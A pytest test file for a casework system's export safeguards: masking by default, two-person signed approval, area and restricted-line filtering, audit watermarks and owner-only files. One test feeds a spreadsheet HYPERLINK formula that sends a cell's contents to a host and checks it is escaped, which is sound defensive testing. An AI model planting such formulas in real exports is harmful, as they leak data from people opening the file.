"""Exports: nobody's name by default, two people for more, no restricted line without the line, no formula."""

import csv
import io
import json
import stat
import zipfile

import pytest

from core import accounts, audit
from core.safety.export.columns import COLUMNS, shown
from core.safety.export.formats import FORMATS, harmless
from core.safety.export.permit import NotPermitted, permit
from core.safety.export.taking import take
from core.store.casework import Case, Visit
from core.store.database import atomically
from tests.factories import person
from tests.safety.leaks import found_in
from tests.safety.world import LU, LU_ID, PLANTED, WANG_ID, WORDS, living, opened

FULL = {"full": True, "why": "年度核查", "by": "wu", "approved_by": "cheng"}


async def rows_of(table: str, at, **asked) -> list[dict]:
    plain = {"by": "", "full": False, "why": "", "approved_by": ""}
    allowed = await permit(table, at=at, **plain | asked)
    return json.loads((await take(table, "json", allowed, at=at)).content)


async def test_by_default_no_table_names_anybody(home, tmp_path):
    async with living(home) as house:
        at = house.clock()
        for table in COLUMNS:
            for form in FORMATS:
                allowed = await permit(table, at=at, by="", full=False, why="", approved_by="")
                taken = await take(table, form, allowed, at=at)
                (tmp_path / "out").mkdir(exist_ok=True)
                (tmp_path / "out" / f"{table}.{form}").write_bytes(taken.content)
                assert taken.rows
        secret = [*PLANTED, house.vault.blind("id", LU_ID), "330482102201"]
    assert found_in(tmp_path / "out", secret) == []


async def test_the_masked_columns_are_what_a_stranger_tests_the_service_with(sqlite_home):
    async with living(sqlite_home) as house:
        at = house.clock()
        [case] = await rows_of("cases", at)
        assert case["case"].startswith("PH-2022-") and case["state"] == "planned"
        assert (case["town"], case["called"], case["visits"]) == ("330482102", 3, 1)
        sent = await rows_of("outbox", at)
        assert {"message", "case", "to", "state", "attempts", "maybe"} <= set(sent[0])
        trail = await rows_of("audit", at)
        assert [row["seq"] for row in trail] == list(range(1, len(trail) + 1))


async def test_in_full_needs_two_different_people_of_the_right_roles_and_a_reason(sqlite_home):
    async with living(sqlite_home) as house:
        at = house.clock()
        refused = [
            {"why": ""},
            {"by": ""},
            {"approved_by": ""},
            {"by": "cheng"},  # himself
            {"by": "peng"},  # a grid worker sees cases, not everything about families
            {"approved_by": "zhou"},  # a department signs nothing
            {"by": "lin"},
        ]
        for wrong in refused:
            with pytest.raises(NotPermitted):
                await permit("cases", at=at, **FULL | wrong)
        with pytest.raises(accounts.NoSuchAccount):
            await permit("cases", at=at, **FULL | {"approved_by": "nobody"})
        with pytest.raises(NotPermitted):  # the trail in full is for auditors
            await permit("audit", at=at, **FULL)
        assert not [e async for e in audit.entries(what="export")]
        await atomically(lambda: accounts.revoke("cheng", at=at))
        with pytest.raises(NotPermitted, match="停用"):
            await permit("cases", at=at, **FULL)


async def test_in_full_it_names_people_and_every_row_leads_back_to_who_took_it(home):
    async with living(home) as house:
        at = house.clock()
        [case] = await rows_of("cases", at, **FULL)
        assert (case["household"], case["head"]) == ("H1", LU)
        [visit] = await rows_of("visits", at, **FULL)
        assert visit["words"] == WORDS
        entries = [e async for e in audit.entries(what="export")]
        assert [(e.who, e.about) for e in entries] == [("wu", "cases"), ("wu", "visits")]
        assert all(e.why == "full, 1 rows, signed cheng: 年度核查" for e in entries)
        assert f"导出 {entries[0].seq}·wu 取·cheng 批·2022-07-15" in case["watermark"]


async def test_rows_outside_the_area_of_either_person_are_left_out(sqlite_home):
    async with living(sqlite_home) as house:
        at = house.clock()
        await opened(house, "H9", WANG_ID, at, region="330482103201")
        assert len(await rows_of("cases", at)) == 2
        assert [c["household"] for c in await rows_of("cases", at, **FULL)] == ["H1"]
        await person("tao", "supervisor", at, area="330482103")
        assert await rows_of("cases", at, **FULL | {"approved_by": "tao"}) == []


@pytest.mark.parametrize("line", ["children", "restricted"])
async def test_a_restricted_line_never_leaves_without_the_line(home, line):
    async with living(home) as house:
        at = house.clock()
        await Case.all().update(line=line)
        number = (await Case.first()).number
        await audit.record("peng", "see", number, at=at)
        for table in ("cases", "visits"):
            assert await rows_of(table, at) == []
            assert await rows_of(table, at, **FULL) == []
        for table in ("outbox", "audit"):
            assert number not in json.dumps(await rows_of(table, at))
        for handle, role in (("zhu", "office"), ("bao", "supervisor")):
            await person(handle, role, at, area="330482", line=line)
        both = FULL | {"by": "zhu", "approved_by": "bao"}
        assert [c["case"] for c in await rows_of("cases", at, **both)] == [number]
        for one_only in ({"by": "zhu"}, {"approved_by": "bao"}):
            assert await rows_of("cases", at, **FULL | one_only) == []


async def test_names_that_look_like_formulas_do_not_run(sqlite_home):
    evil = '=HYPERLINK("http://127.0.0.1/?"&A1,"点我")'
    async with living(sqlite_home) as house:
        at = house.clock()
        await Visit.all().update(words=evil)
        allowed = await permit("visits", at=at, **FULL)
        taken = await take("visits", "csv", allowed, at=at)
        [row] = csv.DictReader(io.StringIO(taken.content.decode()))
        assert row["words"] == f"'{evil}"
        book = zipfile.ZipFile(io.BytesIO((await take("visits", "xlsx", allowed, at=at)).content))
        assert "点我" in book.read("xl/sharedStrings.xml").decode()
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " ="]
)
def test_every_dangerous_beginning_is_made_harmless(start):
    assert harmless(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_words_stay_as_they_are():
    assert [harmless(v) for v in (-3, 2.5, "陆水根", "1-2", None)] == [-3, 2.5, "陆水根", "1-2", ""]


def test_secret_columns_are_never_in_a_masked_export():
    for table in COLUMNS:
        assert not any(column.secret for column in shown(table, full=False))
        assert len(shown(table, full=True)) > len(shown(table, full=False))


def test_the_verb_writes_for_the_owner_only_and_refuses_in_words(sqlite_home, tmp_path, capsys):
    import asyncio

    from jpf.__main__ import main

    async def fill() -> None:
        async with living(sqlite_home):
            pass

    asyncio.run(fill())
    out = tmp_path / "cases.csv"
    assert main(["export", "cases", "--csv", "-o", str(out), "--home", str(sqlite_home)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    told = csv.DictReader(io.StringIO(out.read_text("utf-8")))
    assert [row["state"] for row in told] == ["planned"]
    base = ["export", "visits", "--full", "--home", str(sqlite_home)]
    assert main(base) == 1
    assert "要两个人" in capsys.readouterr().err
    signed = [
        "--why",
        "核查",
        "--by",
        "wu",
        "--approved-by",
        "cheng",
        "-o",
        str(tmp_path / "v.xlsx"),
    ]
    assert main([*base, *signed]) == 0
    assert "wu 取·cheng 批" in capsys.readouterr().err


def test_without_a_file_csv_and_json_go_to_standard_output(sqlite_home, capfdbinary):
    import asyncio

    from jpf.__main__ import main

    async def fill() -> None:
        async with living(sqlite_home):
            pass

    asyncio.run(fill())
    main(["export", "outbox", "--json", "--home", str(sqlite_home)])
    assert json.loads(capfdbinary.readouterr().out)
    main(["export", "audit", "--csv", "--home", str(sqlite_home)])
    assert capfdbinary.readouterr().out.startswith(b"seq,at,who,what,about,hash")
    assert main(["export", "xlsx", "--home", str(sqlite_home)]) == 1
